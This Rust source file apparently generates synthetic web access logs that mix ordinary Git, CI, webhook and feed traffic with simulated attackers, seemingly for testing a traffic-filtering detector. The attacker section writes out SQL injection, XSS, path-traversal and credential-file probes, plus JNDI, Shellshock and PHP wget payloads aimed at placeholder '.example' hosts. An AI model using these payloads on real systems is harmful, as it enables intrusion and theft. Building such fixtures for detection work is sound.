                let refs = format!("{name}/info/refs?service={service}");
                sent.push((at, get(&refs, 401, &agent)));
                sent.push((at + 0.3, Request { user, ..get(&refs, 200, &agent) }));
                let pack = post(format!("{name}/{service}"), 200, 9000, &agent);
                sent.push((at + 0.6, Request { user, ..pack }));
                if service == "git-receive-pack" {
                    let lfs = format!("git-lfs/3.{}.1 (GitHub; linux amd64; go 1.21.7)", self.draw.below(7));
                    let base = format!("/ann/{}-{turn}.git/info/lfs", self.draw.of(TOPICS));
                    sent.push((at + 1.0, post(format!("{base}/locks/verify"), 404, 90, &lfs)));
                    sent.push((at + 1.2, post(format!("{base}/objects/batch"), 200, 900, &lfs)));
                    let object = format!("{base}/objects/{}/4711", self.draw.token("0123456789abcdef", 64));
                    sent.push((at + 1.4, Request { method: "PUT", ..get(object, 200, &lfs) }));
                    sent.push((at + 1.9, post(format!("{base}/verify"), 200, 0, &lfs)));
                }
                at += self.draw.between(2.0, 180.0);
            }
            self.session("Git, a person", sent);
        }
        // A machine that builds: it asks for work, and fetches several repositories at once.
        let runner =
            format!("gitlab-runner 17.{}.0 (17-5-stable; go1.22.7; linux/amd64)", self.draw.below(9));
        let (git, user) =
            (format!("git/2.{}.1", 30 + self.draw.below(17)), self.draw.of(&["-", "gitlab-ci-token"]));
        let (pause, mut sent) = (self.draw.of(&[3.0, 10.0]), Vec::new());
        for turn in 0..300 {
            sent.push((pause * f64::from(turn), post("/api/v4/jobs/request", 204, 0, &runner)));
        }
        for build in 0..6 {
            let start = self.draw.between(0.0, 3000.0);
            for part in 0..8 {
                let refs = format!("/group/part-{build}-{part}.git/info/refs?service=git-upload-pack");
                sent.push((start + 0.01 * f64::from(part), get(&refs, 401, &git)));
                sent.push((start + 0.5, Request { user, ..get(&refs, 200, &git) }));
                let pack = post(format!("/group/part-{build}-{part}.git/git-upload-pack"), 200, 90_000, &git);
                sent.push((start + 0.9, Request { user, ..pack }));
            }
        }
        self.session("Git, a machine that builds", sent);
    }

    fn builds_and_measurements(&mut self) {
        for (target, agent) in [
            ("/github-webhook/", "GitHub-Hookshot/044aadd"),
            ("/jenkins/github-webhook/", "GitHub-Hookshot/7b2f0c1"),
            ("/jenkins/project/site", "GitLab/17.5.0"),
            ("/bitbucket-hook/", "Bitbucket-Webhooks/2.0"),
            ("/gitea-webhook/post", "Go-http-client/1.1"),
            ("/generic-webhook-trigger/invoke?token=k39dk2", "Jira-Webhook/1.0"),
            ("/api/webhook/8a1f0c", "Home Assistant/2024.10.2-14795 (Android 14; Pixel 8)"),
            ("/auth/token", "Home Assistant/2024.10.2-14795 (Android 14; Pixel 8)"),
            ("/loki/api/v1/push", "promtail/2.9.8"),
            ("/api/v1/write", "Prometheus/2.53.0"),
            ("/otlp/v1/metrics", "OTel OTLP Exporter Python/1.25.0"),
        ] {
            let (pause, count) = (self.draw.of(&[0.7, 5.0, 90.0]), 4 + self.draw.below(30));
            let start = self.draw.between(0.0, 400.0);
            let sent = (0..count)
                .map(|turn| (start + pause * turn as f64, post(target, self.draw.of(&[200, 204]), 0, agent)))
                .collect();
            self.session("a program that calls", sent);
        }
        let folder = self.draw.of(&["", "/jenkins"]);
        let (agent, start) = (
            self.draw.of(&["python-requests/2.32.3", "curl/8.5.0", "Java/17.0.11"]),
            self.draw.between(0.0, 900.0),
        );
        let mut sent = Vec::new();
        for turn in 0..40 {
            let at = start + 20.0 * f64::from(turn);
            let job = format!("{folder}/job/site/job/{}", self.draw.of(&["main", "test", "deploy"]));
            sent.push((at, get(format!("{folder}/crumbIssuer/api/json"), 200, agent)));
            sent.push((at + 1.0, post(format!("{job}/build"), 201, 0, agent)));
            sent.push((at + 2.0, get(format!("{folder}/queue/item/{turn}/api/json"), 200, agent)));
            sent.push((at + 5.0, get(format!("{job}/{turn}/api/json"), 200, agent)));
            sent.push((at + 9.0, get(format!("{job}/{turn}/consoleText"), 200, agent)));
        }
        self.session("Jenkins, a program", sent);
        let mut sent = Vec::new();
        for turn in 0..60 {
            let at = 15.0 * f64::from(turn);
            sent.push((at, get(format!("{folder}/tcpSlaveAgentListener/"), 200, "Java/17.0.11")));
            sent.push((
                at + 0.5,
                get(format!("{folder}/computer/b{turn}/jenkins-agent.jnlp"), 200, "Java/17.0.11"),
            ));
        }
        self.session("Jenkins, an agent", sent);
        let sent = (0..200).map(|turn| {
            let target = self.draw.of(&[
                "/grafana/api/ds/query",
                "/api/datasources/uid/p1/health",
                "/apis/folder.grafana.app/v1/x",
            ]);
            (17.0 * f64::from(turn), Request { method: "POST", ..get(target, 200, "Grafana/11.2.0") })
        });
        let sent = sent.collect();
        self.session("Grafana, a program", sent);
    }

    fn feeds_by_query(&mut self) {
        for _ in 0..4 {
            let agent = self.draw.of(&[
                "Tiny Tiny RSS/24.05 (https://tt-rss.org/)",
                "Miniflux/2.1.4",
                "Java/17.0.2",
                "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)",
                "-",
            ]);
            let (start, mut sent) = (self.draw.between(0.0, 900.0), Vec::new());
            for turn in 0..48 {
                let target = match self.draw.below(8) {
                    0 => "/?feed=rss2".to_owned(),
                    1 => "/?feed=comments-rss2&cat=4".to_owned(),
                    2 => format!("/feed/?tag={}", self.draw.of(TOPICS)),
                    3 => format!("/feed.php?f={}", self.draw.below(30)),
                    4 => format!("/forum/app.php/feed/forum/{}", self.draw.below(30)),
                    5 => "/w/index.php?title=Special:RecentChanges&feed=atom".to_owned(),
                    6 => format!("/{}.atom?token=x1", self.draw.of(TOPICS)),
                    _ => self.draw.of(&["/rss.php", "/news.xml", "/rss2", "/blog/atom.php?x=1"]).to_owned(),
                };
                sent.push((start + 45.0 * f64::from(turn), get(target, self.draw.of(&[200, 304]), agent)));
            }
            self.session("a reader of feeds by their query", sent);
        }
    }

    /// Attackers who know that programs are spared at these paths.
    fn attackers_of_applications(&mut self) {
        let git = format!("git/2.{}.1", 30 + self.draw.below(17));
        self.attack("guesses passwords at Git", 32, 150, Some(git), |draw, agent, _| {
            let name = draw.token(LETTERS, 9);
            get(format!("/ann/{name}.git/info/refs?service=git-receive-pack"), 401, agent)
        });
        let jetpack = "Jetpack by WordPress.com".to_owned();
        self.attack("guesses passwords as Jetpack", 6, 150, Some(jetpack), |draw, agent, _| {
            let nonce = draw.token(LETTERS, 10);
            post(format!("/xmlrpc.php?for=jetpack&nonce={nonce}"), 200, 403, agent)
        });
        self.attack("looks for files behind an interface", 5, 12, None, |draw, agent, _| {
            let folder = draw.of(&["/wp-json", "/_matrix", "/webhook", "/ocs/v2.php", "/public.php/webdav"]);
            let name = draw.token(LETTERS, 5);
            let file = match draw.below(4) {
                0 => format!("{name}/.env"),
                1 => format!("{name}.sql"),
                2 => format!("{name}.php.bak"),
                _ => format!("../{name}/.git/HEAD"),
            };
            get(format!("{folder}/{file}"), 404, agent)
        });
        self.attack("tries SQL at an interface", 11, 14, None, |draw, agent, _| {
            let (number, column) = (draw.below(900), draw.below(12));
            let code = match draw.below(3) {
                0 => format!("{number}' OR '{column}'='{column}"),
                1 => format!("-{number} UNION ALL SELECT {column},NULL,NULL-- -"),
                _ => format!("{number} AND SLEEP({column})"),
            };
            let path = draw.of(&["/wp-json/wp/v2/posts", "/_matrix/client/v3/x", "/inbox"]);
            get(format!("{path}?id={}", encode(&code).replace('+', "%20")), draw.of(&[200, 500]), agent)
        });
    }

    /// A client of attack: a browser by its name, a library, or nobody.
    fn mask(&mut self) -> String {
        match self.draw.below(4) {
            0 => self.draw.tool(),
            1 => "-".to_owned(),
            _ => self.draw.browser(),
        }
    }

    /// Sends what is drawn, each but once, at a pause of this attacker.
    fn attack(
        &mut self,
        actor: &'static str,
        by: usize,
        count: usize,
        agent: Option<String>,
        mut draw: impl FnMut(&mut Draw, &str, usize) -> Request,
    ) {
        let ip = self.source(actor, Some(by));
        let agent = match agent {
            Some(agent) => agent,
            None => self.mask(),
        };
        let (start, pause) = (self.draw.between(0.0, 2500.0), self.draw.of(&[0.05, 0.5, 2.0, 6.0]));
        let mut sent = Vec::new();
        for turn in 0..count {
            let request = loop {
                let request = draw(&mut self.draw, &agent, turn);
                if request.method == "POST" || !sent.contains(&request.target) {
                    break request;
                }
            };
            sent.push(request.target.clone());
            self.add(start + pause * turn as f64, &ip, request);
        }
    }

    /// Tries a password a minute or so.
    fn guess_slowly(&mut self) {
        let (ip, agent) = (self.source("guesses passwords slowly", Some(31)), self.mask());
        let (pause, wrong) = (self.draw.between(40.0, 85.0), self.draw.of(&[200, 401]));
        let (target, bytes) = (self.draw.of(&["/login", "/wp-login.php", "/auth/signin"]), self.size());
        for turn in 0..40 {
            self.add(10.0 + pause * f64::from(turn), &ip, post(target, wrong, bytes, &agent));
        }
    }

    /// Opens page after page, faster than the two a second that CrowdSec lets pass beyond the first forty.
    fn scrape(&mut self) {
        let (pause, start) = (self.draw.between(0.05, 0.4), self.draw.between(0.0, 2500.0));
        let ip = self.source("scrapes", Some((41.0 / (1.0 - 2.0 * pause)).ceil() as usize));
        let agent = self.draw.browser();
        for turn in 0..220 {
            let target = format!("/{}/{turn}", self.draw.of(TOPICS));
            self.add(start + pause * f64::from(turn), &ip, get(target, 200, &agent));
        }
    }

    fn attackers(&mut self) {
        let gone = [404, 404, 404, 403];
        for _ in 0..2 {
            self.attack("guesses paths", 11, 40, None, |draw, agent, _| {
                let word = draw.of(&[
                    "admin", "test", "old", "new", "dev", "data", "private", "api", "files", "tmp", "portal",
                    "user", "upload", "beta", "stage",
                ]);
                let rest = draw.token(LETTERS, 3);
                let form = draw.of(&["/", "/index.php", "", "/login.aspx", "/console/"]);
                get(format!("/{word}{rest}{form}"), draw.of(&gone), agent)
            });
            self.attack("looks for files", 5, 12, None, |draw, agent, _| {
                let folder = match draw.below(3) {
                    0 => String::new(),
                    1 => format!("/{}", draw.token(LETTERS, 4)),
                    _ => "/app".to_owned(),
                };
                let name = draw.token(LETTERS, 5);
                let file = match draw.below(9) {
                    0 => ".env".to_owned(),
                    1 => ".git/HEAD".to_owned(),
                    2 => format!("{name}.sql"),
                    3 => format!("{name}.php.bak"),
                    4 => ".htpasswd".to_owned(),
                    5 => ".aws/credentials".to_owned(),
                    6 => ".svn/entries".to_owned(),
                    7 => format!("{name}.sql.gz"),
                    _ => ".bash_history".to_owned(),
                };
                get(format!("{folder}/{file}"), draw.of(&gone), agent)
            });
            self.attack("looks for shells", 2, 6, None, |draw, agent, _| {
                let name = draw.of(&[
                    "c99",
                    "r57",
                    "b374k",
                    "wso",
                    "alfa",
                    "shell",
                    "cmd",
                    "webshell",
                    "indoxploit",
                    "mini",
                ]);
                let folder = draw.of(&["", "/uploads", "/images", "/wp-content/uploads"]);
                get(format!("{folder}/{name}{}.php", draw.of(&["", "1", "2"])), 404, agent)
            });
            self.attack("looks for administration", 3, 8, None, |draw, agent, _| {
                let name = draw.of(&[
                    "phpmyadmin",
                    "pma",
                    "wp-login.php",
                    "phpMyAdmin-5.1",
                    "adminer.php",
                    "manager/html",
                    "myadmin",
                ]);
                let folder = draw.of(&["", "/db", "/web", "/tools"]);
                get(format!("{folder}/{name}"), draw.of(&gone), agent)
            });
            self.attack("looks for WordPress", 4, 9, None, |draw, agent, _| {
                let plugin = draw.token(LETTERS, 6);
                let target = match draw.below(4) {
                    0 => format!("/wp-content/plugins/{plugin}/readme.txt"),
                    1 => format!("/{plugin}/wp-includes/wlwmanifest.xml"),
                    2 => format!("/{plugin}/wp-login.php"),
                    _ => format!("/wp-{plugin}.php"),
                };
                get(target, 404, agent)
            });
            self.attack("looks for wp-config.php", 6, 9, None, |draw, agent, _| {
                let ending = draw.of(&["bak", "old", "save", "swp", "orig", "txt", "1", "dist", "inc"]);
                get(
                    format!(
                        "/{}wp-config.php{}{ending}",
                        draw.of(&["", ".", "blog/"]),
                        draw.of(&[".", "_", "~"])
                    ),
                    404,
                    agent,
                )
            });
            self.attack("leaves the folder", 4, 6, None, |draw, agent, _| {
                let up = draw
                    .of(&["../", "..%2f", "%2e%2e/", "%252e%252e%252f", "..%5c"])
                    .repeat(2 + draw.below(5));
                let file = draw.of(&["etc/hosts", "etc/shadow", "proc/self/environ", "windows/win.ini"]);
                match draw.below(2) {
                    0 => get(format!("/download?file={up}{file}"), draw.of(&[200, 400, 404, 500]), agent),
                    _ => get(format!("/static/{up}{file}"), draw.of(&[400, 404]), agent),
                }
            });
            self.attack("tries SQL", 11, 14, None, |draw, agent, _| {
                let (number, column) = (draw.below(900), draw.below(12));
                let code = match draw.below(7) {
                    0 => format!("{number}' OR '{column}'='{column}"),
                    1 => format!("-{number} UNION ALL SELECT {column},NULL,NULL-- -"),
                    2 => format!("{number} AND SLEEP({column})"),
                    3 => format!("{number}'||pg_sleep({column})--"),
                    4 => format!("{number} AND SUBSTR(@@version,{column},1)=5"),
                    5 => format!("{number} ORDER BY {column}"),
                    _ => format!("{number}) AND (SELECT {column} FROM(SELECT(SLEEP(5)))a)"),
                };
                get(
                    format!("/item?{}={}", draw.of(&["id", "cat", "p"]), encode(&code).replace('+', "%20")),
                    draw.of(&[200, 500, 404]),
                    agent,
                )
            });
            self.attack("tries scripts", 6, 9, None, |draw, agent, _| {
                let number = draw.below(9000);
                let code = match draw.below(6) {
                    0 => format!("<script>alert({number})</script>"),
                    1 => format!("\"><svg onload=alert({number})>"),
                    2 => format!("<img src=x onerror=prompt({number})>"),
                    3 => format!("javascript:alert({number})"),
                    4 => format!("<body onpageshow=confirm`{number}`>"),
                    _ => format!("<details open ontoggle=alert({number})>"),
                };
                get(format!("/find?q={}", encode(&code)), draw.of(&[200, 404]), agent)
            });
            self.attack("counts a parameter", 30, 40, None, |draw, agent, turn| {
                let status = if draw.chance(0.6) { draw.of(&[404, 403, 400]) } else { 200 };
                get(format!("/invoice?number={}", 41_000 + turn), status, agent)
            });
            self.attack("counts authors", 6, 10, None, |draw, agent, turn| {
                get(format!("/?author={}", turn + 1), draw.of(&[301, 404, 200]), agent)
            });
            self.attack("invents parameters", 35, 60, None, |draw, agent, _| {
                get(format!("/?{}", draw.token(DIGITS, 11)), 200, agent)
            });
            self.attack("changes its agent", 12, 30, None, |draw, _, turn| {
                let agent = format!("{} x{turn}", draw.browser());
                get(format!("/?{turn}"), 200, &agent)
            });
            self.attack("asks for another's page", 1, 3, None, |draw, agent, _| {
                get(format!("http://{}.example/ip", draw.token(LETTERS, 8)), draw.of(&[400, 405]), agent)
            });
            self.attack("speaks a version that is none", 1, 3, None, |draw, agent, turn| Request {
                protocol: draw.of(&["HTTP/1.2", "HTTP/4.0", "HTTP/5.1"]),
                ..get(format!("/{turn}"), 200, agent)
            });
            let tool = self.draw.of(&[
                "sqlmap/1.8.2#stable (https://sqlmap.org)",
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
                "WPScan v3.8.25 (https://wpscan.com)",
                "gobuster/3.6",
                "Fuzz Faster U Fool v2.1.0",
                "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                "Mozilla/5.0 zgrab/0.x",
                "masscan/1.3",
                "DirBuster-1.0-RC1",
                "feroxbuster/2.10.1",
                "Wfuzz/3.1.0",
                "dirsearch/0.4",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "Mozilla/4.0 (Hydra)",
                "WhatWeb/0.5.5",
            ]);
            self.attack("names a tool of attack", 1, 5, Some(tool.to_owned()), |draw, agent, turn| {
                get(format!("/{turn}"), draw.of(&[200, 404]), agent)
            });
            for field in [0, 1] {
                self.attack("hides code in a header field", 1, 2, None, |draw, agent, turn| {
                    let (host, number) = (draw.token(LETTERS, 6), draw.below(99));
                    let code = match draw.below(6) {
                        0 => format!("${{jndi:ldap://{host}.example/{number}}}"),
                        1 => format!("${{${{lower:j}}ndi:rmi://{host}.example/a}}"),
                        2 => format!("() {{ :; }}; /bin/bash -c 'ping {host}.example'"),
                        3 => format!("{number}' AND (SELECT {number} FROM (SELECT(SLEEP(5)))x)-- -"),
                        4 => format!("<script src=//{host}.example/{number}></script>"),
                        _ => format!("<?php system('wget http://{host}.example'); ?>"),
                    };
                    let target = format!("/{turn}");
                    if field == 0 { get(target, 200, &code) } else { get(target, 200, agent).from(&code) }
                });
            }
            for (target, wrong, bytes) in [
                ("/login", 401, 90),
                ("/wp-login.php", 200, 6120),
                ("/user/login", 200, 4410),
                ("/api/auth", 403, 33),
                ("/signin", 422, 4410),
                ("/xmlrpc.php", 200, 403),
            ] {
                self.attack(
                    "guesses passwords",
                    if wrong == 403 { 12 } else { 6 },
                    30,
                    None,
                    |_, agent, _| post(target, wrong, bytes, agent),
                );
            }
            self.guess_slowly();
            self.attack("tries passwords of HTTP", 6, 20, None, |draw, agent, turn| Request {
                user: draw.of(&["admin", "root"]),
                ..get(format!("/admin/?{turn}"), 401, agent)
            });
            self.scrape();
            self.attack("sends noise", 1, 2, None, |draw, _, _| Request {
                method: "\\x16\\x03\\x01",
                ..get(draw.token(LETTERS, 7), 400, "-")
            });
        }
    }
}

/// The seeds of `SEEDS=11..111`, or these.
pub(crate) fn seeds(usual: std::ops::Range<u64>) -> std::ops::Range<u64> {
    let Ok(seeds) = std::env::var("SEEDS") else { return usual };
    let (from, to) = seeds.split_once("..").expect("SEEDS=FROM..TO");
    from.parse().expect("the first seed")..to.parse().expect("the seed behind the last")
}

/// Draws an hour. The same seed gives the same log.
pub(crate) fn crowd(seed: u64) -> Crowd {
    let mut log = Log { draw: Draw(seed), lines: Vec::new(), sources: BTreeMap::new() };
    log.people();
    log.browsers_at_work();
    log.forgotten_application();
    log.programs();
    log.attackers();
    // Of a draw of their own, so that the crowd before them stays as it is.
    log.draw = Draw(!seed);
    log.applications();
    log.attackers_of_applications();
    log.lines.sort_by(|(left, first, _), (right, second, _)| left.total_cmp(right).then(first.cmp(second)));
    Crowd { log: log.lines.into_iter().map(|(_, _, line)| line).collect(), sources: log.sources }
}
